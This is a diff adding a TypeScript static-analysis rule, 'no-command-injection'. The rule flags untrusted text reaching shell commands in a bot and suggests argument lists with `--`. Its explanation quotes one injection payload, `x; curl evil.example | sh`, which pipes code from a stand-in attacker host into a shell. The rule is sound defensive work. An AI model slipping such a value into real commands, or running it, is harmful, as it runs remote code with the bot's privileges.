@@ -1,0 +1,38 @@
+/** Untrusted text in a shell's command line, as a program, or as an argument that a program may take for an option. */
+import { flowRule, type Hit, type RuleContext } from "../define.js";
+import type { Confidence } from "../engine/kinds.js";
+import { mayBeOption } from "./argument.js";
+import { runWithoutShell } from "./suggestions/run-without-shell.js";
+import { useInstead } from "../wording.js";
+
+export const noCommandInjection = flowRule({
+  name: "no-command-injection",
+  description: "Disallow untrusted text in commands that the bot runs",
+  why: "A message such as `x; curl evil.example | sh` ends the intended command and starts another one with the rights of the bot. Without a shell, an argument that starts with a hyphen still becomes an option of the program.",
+  instead:
+    'Run the program without a shell and give each argument on its own: `execFile("git", ["log", "--", name])`. Put `--` before arguments that come from outside.',
+  notAFinding: [
+    "`execFile` and `spawn` with a constant program and untrusted text in an argument that cannot be an option (reported in `strict` when it can)",
+    "Values checked against a fixed list or an anchored pattern of harmless characters",
+    "`regex.exec(text)`, `query.exec()` and other methods that share the name only",
+    "Shells that quote their holes, such as Bun's `$`",
+  ],
+  preset: "recommended",
+  cwe: [78, 88],
+  owaspLlm2025: ["LLM05"],
+  owaspLlm2026: ["LLM10"],
+  securitySeverity: 9.8,
+  kinds: ["command", "argument"],
+  reaches: "a shell command",
+  advice: (hit) => (hit.kind === "argument" ? ARGUMENT : useInstead(hit, SHELL, " with a list of arguments")),
+  grade,
+  suggest: runWithoutShell,
+});
+
+const SHELL = "Run the program without a shell and pass a list of arguments instead.";
+const ARGUMENT = "Keep the program constant, and put `--` before arguments from outside, instead.";
+
+function grade(hit: Hit, context: RuleContext): Confidence | undefined {
+  if (hit.kind === "command" || hit.at.start === hit.args[0]?.start) return hit.confidence;
+  return mayBeOption(hit, context) ? "possible" : undefined;
+}
